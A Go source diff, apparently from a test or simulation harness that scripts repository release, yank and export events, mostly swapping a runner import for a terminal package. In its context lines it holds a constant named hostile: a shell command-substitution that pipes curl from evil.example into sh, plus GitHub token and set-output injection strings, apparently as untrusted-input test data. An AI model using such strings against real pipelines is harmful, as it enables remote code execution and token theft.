@@ -12,7 +12,7 @@ import (
 	"time"
 
 	"github.com/aftercare/aftercare/actions/internal/metric"
-	"github.com/aftercare/aftercare/actions/internal/runner"
+	"github.com/aftercare/aftercare/actions/internal/terminal"
 )
 
 type act = func(context.Context, *stage) error
@@ -86,7 +86,7 @@ const hostile = "`$(curl evil.example | sh)` ${{ github.token }}\n::set-output n
 func release(version, about string) act {
 	return func(_ context.Context, s *stage) error {
 		s.tale.note(s.world.Now(), about)
-		s.tale.line(s.world.Now(), "release", runner.Bold, "v"+version+", by lena")
+		s.tale.line(s.world.Now(), "release", terminal.Bold, "v"+version+", by lena")
 		s.repo.Release("lena", "v"+version, "Caro v"+version, true)
 		s.world.Crates.Publish("caro", version)
 		return nil
@@ -202,7 +202,7 @@ func fixed(actor, of, body string) act {
 // cleaned takes what is personal out of the exports that are there.
 func cleaned(_ context.Context, s *stage) error {
 	s.cleaned = true
-	s.tale.line(s.world.Now(), "cleaned", runner.Green, "the export of the day before, by lena")
+	s.tale.line(s.world.Now(), "cleaned", terminal.Green, "the export of the day before, by lena")
 	return s.put(exportName(1), export(1, s.world.Now(), true))
 }
 
@@ -210,7 +210,7 @@ func yank(version string) act {
 	return func(_ context.Context, s *stage) error {
 		s.world.Crates.Yank("caro", version)
 		s.tale.note(s.world.Now(), "a version is taken back by mistake")
-		s.tale.line(s.world.Now(), "yanked", runner.Red, version+", on crates.io")
+		s.tale.line(s.world.Now(), "yanked", terminal.Red, version+", on crates.io")
 		return nil
 	}
 }
@@ -218,7 +218,7 @@ func yank(version string) act {
 func unyank(version string) act {
 	return func(_ context.Context, s *stage) error {
 		s.world.Crates.Unyank("caro", version)
-		s.tale.line(s.world.Now(), "unyanked", runner.Green, version)
+		s.tale.line(s.world.Now(), "unyanked", terminal.Green, version)
 		return nil
 	}
 }
